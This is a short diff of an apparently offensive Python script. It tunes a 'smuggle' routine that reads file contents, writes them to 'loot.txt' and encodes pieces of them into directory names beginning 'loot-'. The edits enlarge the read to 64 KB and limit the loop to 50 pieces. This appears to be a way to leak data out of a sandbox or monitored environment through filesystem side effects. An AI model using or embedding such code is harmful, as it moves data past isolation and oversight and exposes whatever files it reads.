@@ -16,7 +16,7 @@ def system_call(number, *arguments):
 
 def read(path):
     with open(path, "rb") as handle:
-        return handle.read(4096)
+        return handle.read(2**16)
 
 
 def smuggle(got):
@@ -32,7 +32,7 @@ def smuggle(got):
             pass
     with open("loot.txt", "a") as handle:
         handle.write(text)
-    for part in text.split():
+    for part in text.split()[:50]:
         try:
             os.mkdir("loot-" + "".join(letter for letter in part if letter.isalnum())[:200])
         except OSError:
